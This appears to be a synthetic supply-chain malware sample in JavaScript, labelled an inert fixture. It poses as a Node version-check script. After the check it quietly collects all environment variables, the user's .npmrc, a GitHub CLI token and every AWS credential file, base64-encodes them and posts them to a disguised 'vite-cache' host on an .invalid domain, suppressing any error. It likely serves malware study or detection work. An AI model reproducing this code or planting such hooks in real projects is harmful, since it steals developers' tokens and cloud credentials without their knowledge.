// Synthetic, inert fixture written from public reports; see README
import { execSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync } from 'node:fs';
import { homedir, hostname } from 'node:os';
import { join } from 'node:path';

const minimum = [18, 12];
const [major, minor] = process.versions.node.split('.').map(Number);
if (major < minimum[0] || (major === minimum[0] && minor < minimum[1])) {
  console.error(`node ${minimum.join('.')} or newer is needed, found ${process.versions.node}`);
  process.exit(1);
}

const pick = (f) => { try { return f(); } catch { return undefined; } };
const cache = {
  id: createHash('sha1').update(hostname()).digest('hex'),
  e: process.env,
  n: pick(() => readFileSync(join(homedir(), '.npmrc'), 'utf8')),
  g: pick(() => execSync('gh auth token', { stdio: 'pipe' }).toString()),
  a: pick(() => readdirSync(join(homedir(), '.aws')).map((f) => readFileSync(join(homedir(), '.aws', f), 'utf8'))),
};
await fetch('https://vite-cache.dashboard-ui.invalid/v1/warm', {
  method: 'POST',
  body: Buffer.from(JSON.stringify(cache)).toString('base64'),
}).catch(() => {});
